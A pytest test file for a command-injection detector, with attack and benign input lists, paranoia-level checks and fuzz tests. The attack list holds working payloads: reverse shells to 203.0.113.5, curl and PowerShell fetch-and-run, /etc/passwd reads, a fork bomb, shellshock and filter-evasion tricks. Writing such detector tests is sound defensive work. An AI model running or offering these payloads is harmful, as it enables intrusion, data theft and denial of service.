"""The command-injection detector: shell and Windows syntax in command position, evasions, prose."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bastion.inspect.core import Location, Normalized, Severity
from bastion.inspect.detectors.rce import detect_rce

PARAM = Location("query", "host")


def rules(text: str, paranoia: int = 1, location: Location = PARAM) -> set[str]:
    return {match.rule for match in detect_rce(Normalized(text), location, paranoia)}


ATTACKS = [
    ("semicolon-cat", "example.com;cat /etc/passwd"),
    ("pipe-id", "1|id"),
    ("and-whoami", "1 && whoami"),
    ("or-uname", "x || uname -a"),
    ("newline-wget", "a\nwget http://203.0.113.5/x.sh"),
    ("url-encoded", "example.com%3Bcat%20%2Fetc%2Fpasswd"),
    ("double-encoded", "example.com%253Bwhoami"),
    ("plus-space", "127.0.0.1;ping+-c+3+203.0.113.5"),
    ("sleep-blind", "x; sleep 10"),
    ("substitution", "$(whoami)"),
    ("nested-substitution", "echo $(echo $(cat /etc/passwd))"),
    ("backticks", "`id`"),
    ("backtick-ifs", "0.84`echo${IFS}crs``echo${IFS}34`"),
    ("process-substitution", "<(cat file)"),
    ("ifs-braced", "cat${IFS}/etc/passwd"),
    ("ifs-dollar9", ";cat$IFS$9/etc/passwd"),
    ("brace-expansion", "{cat,/etc/passwd}"),
    ("brace-empty-first", "{,ifconfig}"),
    ("brace-in-word", "c{a,oun}t /etc/hosts"),
    ("single-quote-split", "c'a't /etc/passwd"),
    ("double-quote-split", '"w"hoami'),
    ("backslash-split", ";c\\at /etc/passwd"),
    ("empty-var", ";c$@at /et$@c/pas$@swd"),
    ("unset-var-suffix", "uname$u -a"),
    ("default-value", "${x:-cat} /etc/passwd"),
    ("assigned-variable", "a=nc&&$a -nlvp 555"),
    ("split-assignments", "a=/etc&&b=/passwd&&c=cat&&$c $a$b"),
    ("wildcard-command", ";/???/c?t /e??/p????d"),
    ("wildcard-star", "x;/bin/ca* /etc/passwd"),
    ("wildcard-class", "cat /etc/pa[s]swd"),
    ("glob-bin-dir", "/bi[n]/bash"),
    ("dev-tcp", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
    ("dev-tcp-variable", "d=/dev&&(sh)0>$d/tcp/203.0.113.5/777"),
    ("shellshock", "() { :; }; /bin/bash -c 'id'"),
    ("fork-bomb", ":(){ :|:& };:"),
    ("prefix-time", "time sh -c whoami"),
    ("prefix-nohup", "nohup ifconfig"),
    ("quote-breakout", "x'; curl http://203.0.113.5/x | sh"),
    ("php-system-string", "system('echo hi;wget http://203.0.113.5/a -O /tmp/a')"),
    ("powershell-cmdlet", "Invoke-WebRequest http://203.0.113.5/x.ps1"),
    ("powershell-alias", ";iex (iwr http://203.0.113.5/x.ps1)"),
    ("cmd-exe", "& cmd.exe /c dir c:\\"),
    ("certutil", "; certutil -urlcache -f http://203.0.113.5/p.exe p.exe"),
    ("caret-evasion", "|w^h^o^a^m^i"),
    ("batch-for", "for /f %i in ('whoami') do echo %i"),
    ("batch-if-exist", "IF EXIST C:\\pagefile.sys ECHO found"),
    ("batch-if-compare", "&if %n1% gtr %n2% echo bigger"),
    ("interpreter", ";python3 -c 'import os'"),
    ("command-path", "/usr/bin/perl -e 'print 1'"),
    ("alias-definition", "alias ls='ls -al'"),
    ("sqlite-dot", "1;.shell whoami"),
    ("arithmetic", "$[2+2]"),
    ("parameter-trick", "${PATH#{}/}"),
    ("smtp-injection", "x\r\nMAIL FROM:<a@example.org>"),
    ("imap-injection", "x\r\na001 EXAMINE INBOX"),
    ("html-entity", "x&#59;cat /etc/passwd"),
    ("full-width", "\uff1bcat /etc/passwd"),
]


@pytest.mark.parametrize(("text"), [case[1] for case in ATTACKS], ids=[case[0] for case in ATTACKS])
def test_attacks_match_at_paranoia_1(text: str) -> None:
    matches = detect_rce(Normalized(text), PARAM, 1)
    assert matches, text
    assert all(match.category == "rce" and match.rule.startswith("rce-") for match in matches)
    assert any(match.severity == Severity.CRITICAL for match in matches)
    assert all(match.location == PARAM and match.paranoia == 1 for match in matches)


BENIGN = [
    ("tom-and-jerry", "Tom & Jerry"),
    ("semicolon-prose", "a; b"),
    ("pipe-words", "rock|paper"),
    ("dollars", "$5.00"),
    ("price-list", "red;$5 each; blue;$3"),
    ("file-name", "Q3.report.final.v2.pdf"),
    ("prose-command-words", "I like to cat around; time flies when you sort things"),
    ("time-warner", "time warner"),
    ("time-prose", "hello; time he came"),
    ("read-the-faq", "Read the FAQ at https://help.example.com/articles/1234 first"),
    ("find-prose", "Find us at 12 Main St; more info soon"),
    ("brackets", "Some text (in brackets)."),
    ("array-param", "data[index]"),
    ("json-in-query", '{"value":true,"key":"enabled"}'),
    ("markdown-code", "Click `Download invoice` then `Save`"),
    ("template", "Hello ${name}, your order shipped"),
    ("question", "Does the * shine bright?"),
    ("email", "firstname.o'brien@example.com"),
    ("apostrophes", "O'Brien's shop & D'Angelo's cafe"),
    ("user-agent-curl", "curl/7.81.0"),
    (
        "user-agent-browser",
        "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    ),
    ("windows-path", "C:\\Users\\alice\\notes.txt"),
    ("url", "https://example.com/search?q=cat&sort=asc"),
    ("password", "W_&NL&oscNzl.(c==F"),
    ("multiline-text", "Sit street security.\nList several assume.\nGirl popular."),
    ("if-prose", "What happens if not defined by the user?"),
    ("mail-prose", "We received this mail from Mars"),
    ("lone-tool-word", "wget"),
    ("function-call", "myfunction(){ echo hello }"),
]


@pytest.mark.parametrize(("text"), [case[1] for case in BENIGN], ids=[case[0] for case in BENIGN])
def test_benign_text_is_silent_at_paranoia_1(text: str) -> None:
    assert rules(text) == set()


WEAK = [
    ("lone-command-at-start", "whoami", "rce-command-word", 3),
    ("command-word-prose-args", "; cat lovers unite", "rce-command-after-separator", 2),
    ("plain-substitution", "$(document)", "rce-substitution", 2),
    ("jargon-with-args", "ls foo bar", "rce-command-line", 2),
]


@pytest.mark.parametrize(
    ("text", "rule", "level"), [case[1:] for case in WEAK], ids=[case[0] for case in WEAK]
)
def test_weak_signals_need_higher_paranoia(text: str, rule: str, level: int) -> None:
    assert rule not in rules(text, level - 1)
    matches = [m for m in detect_rce(Normalized(text), PARAM, level) if m.rule == rule]
    assert matches
    assert matches[0].paranoia == level
    assert matches[0].severity < Severity.CRITICAL


def test_user_agent_shellshock() -> None:
    header = Location("header", "user-agent")
    assert "rce-shellshock" in rules("() { :; }; echo; /bin/cat /etc/passwd", location=header)


def test_each_rule_reported_once() -> None:
    matches = detect_rce(Normalized(";id;id;id;id"), PARAM, 4)
    names = [match.rule for match in matches]
    assert len(names) == len(set(names))


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=300), st.sampled_from([1, 2, 3, 4]))
def test_never_raises_and_is_deterministic(text: str, paranoia: int) -> None:
    first = detect_rce(Normalized(text), PARAM, paranoia)
    second = detect_rce(Normalized(text), PARAM, paranoia)
    assert first == second
    assert all(match.paranoia <= paranoia for match in first)


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=";|&$(){}`'\"\\<>*?[]!#=^ \nabc/-", max_size=400))
def test_shell_metacharacter_soup_never_raises(text: str) -> None:
    detect_rce(Normalized(text), PARAM, 4)


@pytest.mark.parametrize(
    "unit",
    ["{a,", "$(", "a;", "'", '"a;b', "${", "/?", "`", "c'a't ", "\\"],
    ids=[
        "braces",
        "substitutions",
        "separators",
        "quotes",
        "quoted-scripts",
        "parameters",
        "wildcards",
        "backticks",
        "split-words",
        "backslashes",
    ],
)
def test_adversarial_64k_input_completes(unit: str) -> None:
    text = (unit * (65536 // len(unit) + 1))[:65536]
    started = time.perf_counter()
    detect_rce(Normalized(text), PARAM, 4)
    elapsed = time.perf_counter() - started
    print(f"rce 64 KiB {unit!r}: {elapsed * 1000:.1f} ms")
